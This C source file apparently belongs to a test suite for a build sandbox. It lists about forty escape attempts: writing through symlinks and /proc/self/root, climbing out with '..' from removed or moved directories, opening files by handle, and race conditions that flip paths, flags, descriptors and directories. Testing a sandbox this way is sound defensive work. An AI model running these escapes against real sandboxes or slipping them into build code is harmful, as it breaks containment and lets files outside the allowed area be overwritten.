/* Leads a call that may do what it asks for to a place where it may not: by links, by directories that
   move, and by threads that change a path while it is looked at. */

#include "attack.h"
#include <linux/openat2.h>

static void write_through_a_link(void) {
    unlink(out("link"));
    symlink(outside("file"), out("link"));
    mark(open(out("link"), O_WRONLY | O_TRUNC));
    unlink(out("link"));
}

static void create_through_a_link(void) {
    unlink(out("link"));
    symlink(outside("new"), out("link"));
    plant(out("link"));
    unlink(out("link"));
}

static void create_below_a_linked_directory(void) {
    unlink(out("link"));
    symlink(outside(""), out("link"));
    plant(out("link/new"));
    unlink(out("link"));
}

static void truncate_through_a_link(void) {
    unlink(out("link"));
    symlink(outside("file"), out("link"));
    truncate(out("link"), 0);
    unlink(out("link"));
}

static void change_mode_through_a_link(void) {
    unlink(out("link"));
    symlink(outside("file"), out("link"));
    chmod(out("link"), 0600);
    unlink(out("link"));
}

static void set_attribute_through_a_link(void) {
    unlink(out("link"));
    symlink(outside("file"), out("link"));
    setxattr(out("link"), "user.owned", "x", 1, 0);
    unlink(out("link"));
}

static void write_through_a_link_to_the_root(void) {
    unlink(out("link"));
    symlink("/proc/self/root", out("link"));
    mark(open(text("%s%s", out("link"), outside("file")), O_WRONLY));
    unlink(out("link"));
}

static void write_through_a_link_to_a_magic_link(void) {
    int file = open("src/lib.rs", O_RDONLY);
    unlink(out("link"));
    symlink(text("/proc/self/fd/%d", file), out("link"));
    mark(open(out("link"), O_WRONLY | O_APPEND));
    unlink(out("link"));
}

/* Whose working directory can be the root, from where the path goes on. */
static void write_below_the_parents_root(void) {
    mark(open(text("/proc/%d/root%s", getppid(), outside("file")), O_WRONLY));
}

static void write_below_the_parents_directory(void) {
    mark(open(text("/proc/%d/cwd/%s/src/lib.rs", getppid(), name), O_WRONLY));
}

static void write_below_its_own_directory(void) {
    chdir(outside(""));
    mark(open("/proc/self/cwd/file", O_WRONLY));
}

static void write_below_a_threads_root(void) {
    mark(open(text("/proc/thread-self/root%s", outside("file")), O_WRONLY));
}

static void lead_upwards(void) {
    plant(text("%s/../../../../../../outside/%s/file", getenv("OUT_DIR"), name));
}

static void lead_upwards_from_a_descriptor(void) {
    int directory = open(getenv("OUT_DIR"), O_PATH);
    mark(openat(directory, text("../../../../../../outside/%s/file", name), O_WRONLY));
}

/* Its own `..` is still known when the directory is gone. */
static void lead_upwards_from_a_removed_directory(void) {
    mkdir(out("removed"), 0755);
    chdir(out("removed"));
    rmdir(out("removed"));
    plant(text("../../../../../../../outside/%s/file", name));
}

static void lead_upwards_from_a_moved_directory(void) {
    mkdir(out("a"), 0755);
    mkdir(out("a/b"), 0755);
    chdir(out("a/b"));
    rename(out("a/b"), out("b"));
    plant(text("../../../../../../../outside/%s/file", name));
    rmdir(out("b"));
}

static void replace_out_dir_by_a_link(void) {
    const char *mine = getenv("OUT_DIR"), *away = text("%s.away", mine);
    if (rename(mine, away) == 0) {
        symlink(outside(""), mine);
        plant(out("file"));
        unlink(mine);
        rename(away, mine);
    }
}

/* The file's own directory, found by a file system's handle. */
static void open_by_handle(void) {
    struct { struct file_handle handle; char bytes[MAX_HANDLE_SZ]; } space;
    int mount;
    space.handle.handle_bytes = MAX_HANDLE_SZ;
    name_to_handle_at(AT_FDCWD, outside("file"), &space.handle, &mount, 0);
    mark(open_by_handle_at(open(getenv("OUT_DIR"), O_RDONLY), &space.handle, O_WRONLY));
}

/* Races. */

static char *volatile path;
static char *flipping, *one, *other;

/* The two are of one length, so that every mixture but these two is no path. */
static void flip_path(unsigned long step) {
    memcpy(flipping, step % 2 ? one : other, strlen(one));
}

/* A path in the own directory that turns into one outside, and back. */
static void race_paths(const char *inside, const char *target) {
    /* `//` is `/`: so the shorter one is made as long. */
    size_t length = strlen(inside) > strlen(target) ? strlen(inside) : strlen(target);
    one = malloc(length + 1);
    other = malloc(length + 1);
    memset(one, '/', length);
    memset(other, '/', length);
    strcpy(one + length - strlen(inside), inside);
    strcpy(other + length - strlen(target), target);
    flipping = strdup(other);
    path = flipping;
    meanwhile(flip_path);
}

static void race_open(void) {
    race_paths(out("mine"), outside("file"));
    while (racing()) {
        int file = open(path, O_WRONLY | O_CREAT, 0644);
        if (file >= 0)
            mark(file);
        close(file);
    }
}

static void race_unlink(void) {
    race_paths(out("mine"), outside("file"));
    while (racing()) {
        close(open(out("mine"), O_WRONLY | O_CREAT, 0644));
        unlink(path);
    }
}

static void race_mkdir(void) {
    race_paths(out("made"), outside("new"));
    while (racing()) {
        mkdir(path, 0755);
        rmdir(out("made"));
    }
}

static void race_rename(void) {
    race_paths(out("renamed"), outside("file"));
    while (racing()) {
        plant(out("mine"));
        rename(out("mine"), path);
    }
}

static void race_link(void) {
    race_paths(out("linked"), outside("new"));
    plant(out("mine"));
    while (racing()) {
        link(out("mine"), path);
        unlink(out("linked"));
    }
}

static void race_symlink(void) {
    race_paths(out("linked"), outside("new"));
    while (racing()) {
        symlink("/etc/passwd", path);
        unlink(out("linked"));
    }
}

static void race_mknod(void) {
    race_paths(out("made"), outside("new"));
    while (racing()) {
        mkfifo(path, 0644);
        unlink(out("made"));
    }
}

static void race_truncate(void) {
    race_paths(out("mine"), outside("file"));
    plant(out("mine"));
    while (racing())
        truncate(path, 1);
}

static void race_chmod(void) {
    race_paths(out("mine"), outside("file"));
    plant(out("mine"));
    while (racing())
        chmod(path, 0600);
}

static void race_chown(void) {
    race_paths(out("mine"), outside("file"));
    plant(out("mine"));
    while (racing())
        chown(path, getuid(), getgid());
}

static void race_utimensat(void) {
    struct timespec times[2] = {{1, 0}, {1, 0}};
    race_paths(out("mine"), outside("file"));
    plant(out("mine"));
    while (racing())
        utimensat(AT_FDCWD, path, times, 0);
}

static void race_setxattr(void) {
    race_paths(out("mine"), outside("file"));
    plant(out("mine"));
    while (racing())
        setxattr(path, "user.owned", "x", 1, 0);
}

static void race_execve(void) {
    race_paths("/bin/true", outside("program"));
    for (long tries = 0; tries < 100; tries++) {
        int answers[2];
        pipe(answers);
        pid_t child = vfork();
        if (child == 0) {
            dup2(answers[1], 1);
            execl(path, "program", NULL);
            _exit(1);
        }
        close(answers[1]);
        loot_from(answers[0]);
        close(answers[0]);
        waitpid(child, NULL, 0);
    }
}

static struct open_how how;

static void flip_flags(unsigned long step) {
    how.flags = step % 2 ? O_RDONLY : O_WRONLY;
}

/* The flags lie in memory too; what is opened may be read and not be written. */
static void race_flags(void) {
    meanwhile(flip_flags);
    while (racing()) {
        int file = (int)syscall(SYS_openat2, AT_FDCWD, "src/lib.rs", &how, sizeof how);
        if (file >= 0 && write(file, "owned", 5) == 5)
            break;
        close(file);
    }
}

static void flip_link(unsigned long step) {
    unlink(out("made"));
    if (step % 2)
        symlink(outside("file"), out("made"));
    else
        close(open(out("made"), O_WRONLY | O_CREAT, 0644));
    rename(out("made"), out("flipping"));
}

static void race_link_open(void) {
    meanwhile(flip_link);
    while (racing()) {
        int file = open(out("flipping"), O_WRONLY);
        if (file >= 0)
            mark(file);
        close(file);
    }
}

static void race_link_chmod(void) {
    meanwhile(flip_link);
    while (racing())
        chmod(out("flipping"), 0600);
}

static void race_link_setxattr(void) {
    meanwhile(flip_link);
    while (racing())
        setxattr(out("flipping"), "user.owned", "x", 1, 0);
}

static void race_link_utimensat(void) {
    struct timespec times[2] = {{1, 0}, {1, 0}};
    meanwhile(flip_link);
    while (racing())
        utimensat(AT_FDCWD, out("flipping"), times, 0);
}

static void flip_directory(unsigned long step) {
    const char *directory = out("directory"), *link = out("outwards");
    (void)step;
    syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link, RENAME_EXCHANGE);
}

/* A directory changes places with a link to another one. */
static void race_directory(void) {
    mkdir(out("directory"), 0755);
    symlink(outside(""), out("outwards"));
    meanwhile(flip_directory);
    while (racing())
        plant(out("directory/new"));
}

static void race_directory_unlink(void) {
    mkdir(out("directory"), 0755);
    symlink(outside(""), out("outwards"));
    meanwhile(flip_directory);
    while (racing())
        unlink(out("directory/file"));
}

static void flip_descriptor(unsigned long step) {
    static int files[2];
    if (step == 0) {
        files[0] = open(getenv("OUT_DIR"), O_PATH);
        files[1] = open(outside(""), O_PATH);
    }
    dup2(files[step % 2], 99);
}

/* The number of a directory's descriptor stands for another one a moment later. */
static void race_descriptor(void) {
    meanwhile(flip_descriptor);
    while (racing())
        close(openat(99, "new", O_WRONLY | O_CREAT, 0644));
}

static void race_descriptor_chmod(void) {
    close(open(out("file"), O_WRONLY | O_CREAT, 0644));
    meanwhile(flip_descriptor);
    while (racing())
        fchmodat(99, "file", 0600, 0);
}

static void flip_working_directory(unsigned long step) {
    chdir(step % 2 ? outside("") : getenv("OUT_DIR"));
}

static void race_working_directory(void) {
    meanwhile(flip_working_directory);
    while (racing())
        close(open("new", O_WRONLY | O_CREAT, 0644));
}

const struct attack LINKS_AND_RACES[] = {
    ATTACK(write_through_a_link),
    ATTACK(create_through_a_link),
    ATTACK(create_below_a_linked_directory),
    ATTACK(truncate_through_a_link),
    ATTACK(change_mode_through_a_link),
    ATTACK(set_attribute_through_a_link),
    ATTACK(write_through_a_link_to_the_root),
    ATTACK(write_through_a_link_to_a_magic_link),
    ATTACK(write_below_the_parents_root),
    ATTACK(write_below_the_parents_directory),
    ATTACK(write_below_its_own_directory),
    ATTACK(write_below_a_threads_root),
    ATTACK(lead_upwards),
    ATTACK(lead_upwards_from_a_descriptor),
    ATTACK(lead_upwards_from_a_removed_directory),
    ATTACK(lead_upwards_from_a_moved_directory),
    ATTACK(replace_out_dir_by_a_link),
    ATTACK(open_by_handle),
    ATTACK(race_open),
    ATTACK(race_unlink),
    ATTACK(race_mkdir),
    ATTACK(race_rename),
    ATTACK(race_link),
    ATTACK(race_symlink),
    ATTACK(race_mknod),
    ATTACK(race_truncate),
    ATTACK(race_chmod),
    ATTACK(race_chown),
    ATTACK(race_utimensat),
    ATTACK(race_setxattr),
    ATTACK(race_execve),
    ATTACK(race_flags),
    ATTACK(race_link_open),
    ATTACK(race_link_chmod),
    ATTACK(race_link_setxattr),
    ATTACK(race_link_utimensat),
    ATTACK(race_directory),
    ATTACK(race_directory_unlink),
    ATTACK(race_descriptor),
    ATTACK(race_descriptor_chmod),
    ATTACK(race_working_directory),
    {0},
};
